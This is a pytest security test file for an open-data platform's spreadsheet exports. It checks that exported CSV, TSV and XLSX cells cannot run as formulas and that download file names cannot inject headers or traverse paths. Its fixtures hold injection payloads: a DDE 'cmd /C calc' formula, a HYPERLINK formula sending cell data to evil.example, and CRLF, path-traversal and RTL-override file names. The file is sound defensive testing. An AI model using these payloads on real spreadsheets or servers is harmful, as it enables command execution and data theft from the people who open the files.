"""No cell of a file that a spreadsheet opens is a formula, and no name of one misleads; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from hiroba.catalog.tables import service as tables
from hiroba.indicators import service as indicators
from hiroba.indicators.types import Definition, Direction, Source, SourceKind
from hiroba.intake.publishing import service as publishing
from hiroba.intake.publishing.types import PublishOptions
from hiroba.kernel.decide.types import SYSTEM
from hiroba.kernel.organisations import service as organisations
from hiroba.kernel.organisations.types import OrganisationInfo, OrganisationKind
from hiroba.kernel.people import service as people
from hiroba.protocols.ckan.ids import resource_id
from tests.security.asking import Asking
from tests.security.seeded import NOBODY, TOWN, Seeded

ROOT = Path(__file__).parents[2] / "src/hiroba"
SIGNS = "=+-@\t\r\n＝＋－＠"
ATTACKS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\x00=1+1",
)  # fmt: skip
HARMLESS = ("-5", "+81", "-1,200", "-0.5", "-", "－", "", "北公園", "2+2", "a@example.jp", "1e-7", "-1e-7")
# What writes cells that a spreadsheet opens. A new one goes through `tables.plain_cell` and gets its line.
WRITERS = {
    "catalog/tables/forms/delimited.py": "text_cells",
    "catalog/tables/forms/shapefile.py": "text_cells",
    "catalog/tables/forms/workbook.py": "quote_prefix",
    "protocols/ckan/datastore.py": "plain_cell",
    "services/dashboards/pages/compare.py": "plain_cell",
    "web/metering/statement.py": "plain_cell",
    "web/catalogue/dataset/unread.py": "plain_cell",
    "office/register/open_data.py": "plain_cell",
    # for trip planners, in a zip of .txt: the words of GTFS as they are
    "catalog/tables/forms/timetable.py": "",
    # what came from a file or a database, on its way in
    "intake/feeds/database.py": "",
    "intake/reading/delimited_rows.py": "",
}
_WRITES = re.compile(
    r"csv\.(?:Dict)?[wW]riter\(|pa_csv\.write_csv|forms\.delimited import written|xlsxwriter\.Workbook|import openpyxl"
)


def test_whatever_writes_cells_is_known() -> None:
    found = {}
    for path in ROOT.rglob("*.py"):
        name = path.relative_to(ROOT).as_posix()
        if (
            "/tests/" not in name
            and not name.startswith("demo/")
            and _WRITES.search(text := path.read_text())
        ):
            found[name] = text
    assert found.keys() == WRITERS.keys()
    for name, by in WRITERS.items():
        assert by in (ROOT / name).read_text(), name


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    plain = tables.plain_cell(text)
    assert plain == "'" + text.replace("\x00", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay(text: str) -> None:
    assert tables.plain_cell(text) == text


@pytest.fixture(scope="module")
def formulas(seeded: Seeded, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A table of an office whose cells, heads and name are formulas; so are a town and an indicator."""
    cells = [("名称", "=1+1", "＝題", "人数")]
    cells += [(f"{at}番", text, f"{text} だ", -5 - at) for at, text in enumerate(ATTACKS)]
    path = (
        tmp_path_factory.mktemp("formulas") / "formulas.json"
    )  # of a CSV it is refused: a formula was meant
    path.write_text(json.dumps([dict(zip(cells[0], each, strict=True)) for each in cells[1:]]))
    request = publishing.Request("=1+1.json", "=1+1.json", "formulas.json", TOWN, SYSTEM, PublishOptions())
    report = publishing.publish_file(path, request, lambda _stage, _done, _total: None)
    assert report.dataset is not None
    organisations.ensure(OrganisationInfo("evil", OrganisationKind.COMPANY, "=1+1社", "=1+1", None))
    officer = people.principal_of_person(seeded.people["officer"])
    indicators.define(
        Definition("formula", TOWN, "=1+1 件", "=1+1", "", "＝x", Direction.UP, Source(SourceKind.ENTERED)),
        officer,
    )
    indicators.enter(indicators.Entered("formula", TOWN, 2020, -5.0, date(2021, 3, 31), "年報"), officer)
    return report.dataset


def _cells(text: str, delimiter: str = ",") -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from row


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would run it: its own judgement here, not the house's."""
    if cell[:1] not in SIGNS or len(cell) < 2:
        return False
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return True
    return False


def _answers(ask: Asking, id: str, seeded: Seeded) -> Iterator[tuple[str, str, str]]:
    """(address, what it holds, delimiter) of every text that a spreadsheet opens."""
    for form, letters, delimiter in (
        ("csv", "utf-8", ","),
        ("csv-cp932", "cp932", ","),
        ("tsv", "utf-8", "\t"),
    ):
        address = f"/datasets/{id}/data.{form}"
        yield address, ask.page(NOBODY, "GET", address).body.decode(letters), delimiter
    yield "unread", ask.page(NOBODY, "GET", f"/datasets/{seeded.datasets['open']}/unread.csv").text, ","
    for form, delimiter in (("csv", ","), ("tsv", "\t")):
        address = f"/datastore/dump/{resource_id(id, 1)}?format={form}"
        yield address, ask.machine(NOBODY, "GET", address).text, delimiter
    yield "compare", ask.page(NOBODY, "GET", "/s/dashboards/compare.csv?i=formula").text, ","
    yield "statement", ask.page("operator", "GET", "/operations/statement.csv").text, ","


def test_no_answer_that_a_spreadsheet_opens_holds_a_formula(
    ask: Asking, seeded: Seeded, formulas: str
) -> None:
    for address, text, delimiter in _answers(ask, formulas, seeded):
        cells = list(_cells(text.removeprefix("\ufeff"), delimiter))
        assert len(cells) > 4, (address, text[:200])
        assert [each for each in cells if _runs(each)] == [], address
        if "data." in address or "dump" in address:
            assert "-5" in cells, address
            assert sum(each.startswith("'") for each in cells) > len(ATTACKS), address


def test_a_workbook_holds_texts_and_numbers(ask: Asking, formulas: str) -> None:
    body = ask.page(NOBODY, "GET", f"/datasets/{formulas}/data.xlsx").body
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    found = [
        cell for row in openpyxl.load_workbook(io.BytesIO(body)).worksheets[0].iter_rows() for cell in row
    ]
    assert {cell.data_type for cell in found if cell.value is not None} <= {"s", "n", "inlineStr"}
    assert -5 in [cell.value for cell in found]


@pytest.mark.parametrize(
    "title",
    ['a"; filename=evil.exe; x="', "a\r\nSet-Cookie: a=b", "報告\u202efdp.exe", "..\\..\\x", "../../etc/x", "CON",
     "\ud800x", "\u2066x\u2069", "a\x00b", "x" * 5000, "'''", "%0d%0a", "..."],
)  # fmt: skip
def test_the_name_of_a_file_is_only_a_name(ask: Asking, seeded: Seeded, title: str) -> None:
    from hiroba.web.catalogue.files.names import disposition

    name = f"{tables.safe_name(title)}.csv"
    told = disposition(name)
    plain = re.fullmatch(
        r"attachment; filename=\"([^\"\\]*)\"; filename\*=UTF-8''([\w.%~-]*)", told, re.ASCII
    )
    assert plain is not None, told
    assert told.isascii()
    assert told.isprintable()
    for sign in '/\\\r\n"\u202e\u2066\x00':
        assert sign not in name
    assert len(name.encode()) <= 255
    assert name.partition(".")[0].upper() != "CON"
